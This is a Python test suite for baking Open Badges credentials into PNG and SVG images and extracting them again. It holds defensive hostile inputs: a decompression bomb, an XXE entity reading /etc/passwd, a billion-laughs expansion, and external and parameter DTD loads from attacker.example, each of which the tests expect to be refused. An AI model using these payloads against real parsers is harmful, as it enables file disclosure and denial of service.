"""Baking credentials into PNG and SVG badge images, and extracting them again."""

from __future__ import annotations

import json
import struct
import zlib
from pathlib import Path
from typing import Any

import pytest

from core.baking import (
    KEYWORD_OB2,
    KEYWORD_OB3,
    PNG_SIGNATURE,
    bake_badge,
    bake_png,
    bake_svg,
    extract_badge,
    extract_from_png,
    extract_from_svg,
)
from core.errors import InvalidInput
from core.limits import MAX_IMAGE_BYTES

VALIDATOR = (
    Path(__file__).resolve().parents[2] / "shared" / "standards" / "vectors" / "1edtech-validator"
)
OB30 = VALIDATOR / "ob30"
EXTRACTED = OB30 / "extracted"

CREDENTIAL: dict[str, Any] = {
    "@context": [
        "https://www.w3.org/ns/credentials/v2",
        "https://purl.imsglobal.org/spec/ob/v3p0/context-3.0.3.json",
    ],
    "id": "urn:uuid:0b5c6c39-9c1b-4c4b-9d0c-5f2a3c1d7e11",
    "type": ["VerifiableCredential", "OpenBadgeCredential"],
    "name": "Café ]]> closing-marker test",
}
CREDENTIAL_JSON = json.dumps(CREDENTIAL, ensure_ascii=False)
JWT = "eyJhbGciOiJFZERTQSJ9.eyJpc3MiOiJodHRwczovL2lzc3Vlci5leGFtcGxlIn0.c2lnbmF0dXJl"
SVG = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><circle r="4"/></svg>\n'


# --- PNG helpers ------------------------------------------------------------------------


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _minimal_png(width: int = 2, height: int = 2, extra: bytes = b"") -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)  # 8-bit RGB
    rows = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height))
    return (
        PNG_SIGNATURE
        + _chunk(b"IHDR", header)
        + extra
        + _chunk(b"IDAT", zlib.compress(rows))
        + _chunk(b"IEND", b"")
    )


def _chunk_types(png: bytes) -> list[bytes]:
    kinds, pos = [], 8
    while pos < len(png):
        (length,) = struct.unpack(">I", png[pos : pos + 4])
        kinds.append(png[pos + 4 : pos + 8])
        pos += 12 + length
    return kinds


def _itxt(keyword: str, text: bytes, *, compressed: bool = False) -> bytes:
    flag = b"\x01\x00" if compressed else b"\x00\x00"
    return _chunk(b"iTXt", keyword.encode("latin-1") + b"\x00" + flag + b"\x00\x00" + text)


# --- PNG --------------------------------------------------------------------------------


def test_png_json_round_trip_places_itxt_right_after_ihdr() -> None:
    original = _minimal_png()
    baked = bake_png(original, CREDENTIAL_JSON)

    extracted = extract_from_png(baked)
    assert extracted.payload == CREDENTIAL_JSON
    assert json.loads(extracted.payload) == CREDENTIAL
    assert (extracted.keyword, extracted.version, extracted.image_format) == (
        KEYWORD_OB3,
        "ob3",
        "png",
    )
    assert not extracted.is_jwt
    assert _chunk_types(baked) == [b"IHDR", b"iTXt", b"IDAT", b"IEND"]
    assert baked.endswith(original[-12:])  # IEND untouched


def test_png_jwt_round_trip() -> None:
    extracted = extract_badge(bake_png(_minimal_png(), JWT))
    assert extracted.payload == JWT
    assert extracted.is_jwt


def test_png_rebake_replaces_the_earlier_credential() -> None:
    baked = bake_png(bake_png(_minimal_png(), CREDENTIAL_JSON), JWT)
    assert _chunk_types(baked).count(b"iTXt") == 1
    assert extract_from_png(baked).payload == JWT


def test_png_ob2_keyword_and_preference_for_ob3() -> None:
    ob2_payload = json.dumps({"@context": "https://w3id.org/openbadges/v2", "type": "Assertion"})
    ob2 = bake_png(_minimal_png(), ob2_payload, KEYWORD_OB2)
    assert extract_from_png(ob2).version == "ob2"

    both = bake_png(ob2, JWT, KEYWORD_OB3)
    assert _chunk_types(both).count(b"iTXt") == 2
    assert extract_from_png(both).version == "ob3"


def test_png_reads_compressed_itxt_and_ztxt_and_text() -> None:
    compressed = _itxt(KEYWORD_OB3, zlib.compress(CREDENTIAL_JSON.encode()), compressed=True)
    assert extract_from_png(_minimal_png(extra=compressed)).payload == CREDENTIAL_JSON

    ztxt = _chunk(b"zTXt", b"openbadges\x00\x00" + zlib.compress(b"https://example.org/a/1"))
    assert extract_from_png(_minimal_png(extra=ztxt)).payload == "https://example.org/a/1"

    text = _chunk(b"tEXt", b"openbadges\x00https://example.org/a/2")
    extracted = extract_from_png(_minimal_png(extra=text))
    assert (extracted.payload, extracted.version) == ("https://example.org/a/2", "ob2")


def test_png_decompression_bomb_is_refused() -> None:
    packer = zlib.compressobj(9)
    zeros = bytes(1_000_000)
    bomb = b"".join(packer.compress(zeros) for _ in range(50)) + packer.flush()  # 50 MB inflated
    png = _minimal_png(extra=_itxt(KEYWORD_OB3, bomb, compressed=True))

    with pytest.raises(InvalidInput, match="decompression bomb"):
        extract_badge(png)


def test_png_with_corrupted_crc_is_refused() -> None:
    png = bytearray(bake_png(_minimal_png(), CREDENTIAL_JSON))
    png[60] ^= 0xFF  # inside the iTXt data
    with pytest.raises(InvalidInput, match="CRC mismatch"):
        extract_from_png(bytes(png))


@pytest.mark.parametrize("cut", [10, 30, 60, -6, -12])
def test_truncated_png_is_refused(cut: int) -> None:
    png = bake_png(_minimal_png(), CREDENTIAL_JSON)
    with pytest.raises(InvalidInput, match="truncated"):
        extract_from_png(png[:cut])


def test_png_structural_problems_are_refused() -> None:
    with pytest.raises(InvalidInput, match="bad signature"):
        extract_from_png(b"GIF89a" + bytes(40))
    with pytest.raises(InvalidInput, match="dimensions"):
        extract_from_png(_minimal_png(width=0))
    no_ihdr = PNG_SIGNATURE + _chunk(b"IDAT", b"") + _chunk(b"IEND", b"")
    with pytest.raises(InvalidInput, match="IHDR"):
        extract_from_png(no_ihdr)
    twice = _minimal_png(extra=_itxt(KEYWORD_OB3, JWT.encode()) + _itxt(KEYWORD_OB3, JWT.encode()))
    with pytest.raises(InvalidInput, match="exactly one"):
        extract_from_png(twice)
    with pytest.raises(InvalidInput, match="no baked"):
        extract_from_png(_minimal_png())


def test_png_over_the_size_cap_is_refused() -> None:
    with pytest.raises(InvalidInput, match="too large"):
        extract_badge(PNG_SIGNATURE + bytes(MAX_IMAGE_BYTES))


@pytest.mark.parametrize("payload", ["hello", "{not json", "", "a.b"])
def test_baking_refuses_payloads_that_are_not_a_credential(payload: str) -> None:
    with pytest.raises(InvalidInput):
        bake_png(_minimal_png(), payload)
    with pytest.raises(InvalidInput):
        bake_svg(SVG, payload)


def test_baking_refuses_unknown_keywords() -> None:
    with pytest.raises(InvalidInput, match="keyword"):
        bake_png(_minimal_png(), JWT, "comment")


# --- 1EdTech samples --------------------------------------------------------------------


def test_1edtech_json_png_sample() -> None:
    extracted = extract_badge((OB30 / "simple-json.png").read_bytes())
    assert extracted.version == "ob3" and extracted.image_format == "png"
    assert extracted.payload == (EXTRACTED / "simple-json.from-png.json").read_text(
        encoding="utf-8"
    )


def test_1edtech_jwt_png_sample() -> None:
    extracted = extract_badge((OB30 / "simple-jwt.png").read_bytes())
    assert extracted.is_jwt
    assert extracted.payload == (EXTRACTED / "simple-jwt.from-png.jwt").read_text().strip()


def test_1edtech_jwt_svg_sample() -> None:
    extracted = extract_badge((OB30 / "simple-jwt.svg").read_bytes())
    assert (extracted.version, extracted.image_format) == ("ob3", "svg")
    assert extracted.payload == (EXTRACTED / "simple-jwt.from-svg.jwt").read_text().strip()


def test_1edtech_json_svg_sample() -> None:
    extracted = extract_badge((OB30 / "simple-json.svg").read_bytes())
    expected = json.loads((EXTRACTED / "simple-json.from-png.json").read_text(encoding="utf-8"))
    assert json.loads(extracted.payload) == expected


def test_1edtech_ob20_png_sample() -> None:
    extracted = extract_badge((VALIDATOR / "ob20" / "simple-badge.png").read_bytes())
    assert (extracted.keyword, extracted.version) == (KEYWORD_OB2, "ob2")
    assert json.loads(extracted.payload)["@context"] == "https://w3id.org/openbadges/v2"


def test_rebaking_a_1edtech_png_sample_keeps_the_image_chunks() -> None:
    original = (OB30 / "simple-json.png").read_bytes()
    baked = bake_png(original, JWT)
    assert extract_badge(baked).payload == JWT
    assert _chunk_types(baked).count(b"iTXt") == 1
    assert _chunk_types(baked).count(b"IDAT") == _chunk_types(original).count(b"IDAT")


# --- SVG --------------------------------------------------------------------------------


def test_svg_json_round_trip_survives_a_cdata_end_marker() -> None:
    baked = bake_svg(SVG, CREDENTIAL_JSON)
    extracted = extract_from_svg(baked)

    assert json.loads(extracted.payload) == CREDENTIAL
    assert (extracted.version, extracted.image_format) == ("ob3", "svg")
    assert b'xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"' in baked
    assert b'<circle r="4"/>' in baked  # the drawing is kept as is


def test_svg_jwt_round_trip_uses_the_verify_attribute() -> None:
    baked = bake_badge(SVG, JWT)
    assert f'verify="{JWT}"'.encode() in baked
    extracted = extract_badge(baked)
    assert extracted.payload == JWT and extracted.is_jwt


def test_svg_rebake_replaces_the_1edtech_sample_credential() -> None:
    original = (OB30 / "simple-json.svg").read_bytes()
    baked = bake_svg(original, JWT)

    assert baked.count(b"<openbadges:credential") == 1
    assert extract_badge(baked).payload == JWT
    assert b"<!DOCTYPE svg PUBLIC" in baked  # the rest of the file is kept
    assert baked.count(b"<path") == original.count(b"<path")


def test_svg_ob2_assertion_carries_its_id_in_verify() -> None:
    assertion = {
        "@context": "https://w3id.org/openbadges/v2",
        "id": "https://issuer.example/assertions/1?a=1&b=2",
        "type": "Assertion",
    }
    baked = bake_svg(SVG, json.dumps(assertion), KEYWORD_OB2)

    assert b'xmlns:openbadges="http://openbadges.org"' in baked
    assert b'verify="https://issuer.example/assertions/1?a=1&amp;b=2"' in baked
    extracted = extract_from_svg(baked)
    assert extracted.version == "ob2"
    assert json.loads(extracted.payload) == assertion


def test_svg_with_self_closing_root_can_be_baked() -> None:
    baked = bake_svg(b'<svg xmlns="http://www.w3.org/2000/svg"/>', JWT)
    assert baked.rstrip().endswith(b"</svg>")
    assert extract_from_svg(baked).payload == JWT


HOSTILE_SVGS = {
    "xxe": b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>""",
    "billion laughs": b"""<?xml version="1.0"?>
<!DOCTYPE svg [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&lol9;</text></svg>""",
    "external dtd": b"""<?xml version="1.0"?>
<!DOCTYPE svg SYSTEM "http://attacker.example/evil.dtd">
<svg xmlns="http://www.w3.org/2000/svg"><text>&payload;</text></svg>""",
    "parameter entity": b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<svg xmlns="http://www.w3.org/2000/svg"/>""",
    "undeclared entity": b"""<svg xmlns="http://www.w3.org/2000/svg"><text>&secret;</text></svg>""",
}


@pytest.mark.parametrize("name", sorted(HOSTILE_SVGS))
def test_hostile_svg_is_refused(name: str) -> None:
    with pytest.raises(InvalidInput):
        extract_badge(HOSTILE_SVGS[name])
    with pytest.raises(InvalidInput):
        bake_svg(HOSTILE_SVGS[name], JWT)


@pytest.mark.parametrize(
    ("svg", "reason"),
    [
        (b"<svg xmlns='http://www.w3.org/2000/svg'><g></svg>", "not well-formed"),
        (b"<html><body/></html>", "root element is not <svg>"),
        (SVG, "no baked"),
        (
            b"<svg xmlns='http://www.w3.org/2000/svg'>" + b"<g>" * 300 + b"</g>" * 300 + b"</svg>",
            "deeper than",
        ),
    ],
)
def test_unusable_svg_is_refused(svg: bytes, reason: str) -> None:
    with pytest.raises(InvalidInput, match=reason):
        extract_from_svg(svg)


@pytest.mark.parametrize("data", [b"hello world", b"%PDF-1.7\n", b"", b"\x00\x01\x02"])
def test_non_images_are_refused(data: bytes) -> None:
    with pytest.raises(InvalidInput, match="Not a PNG or SVG image"):
        extract_badge(data)
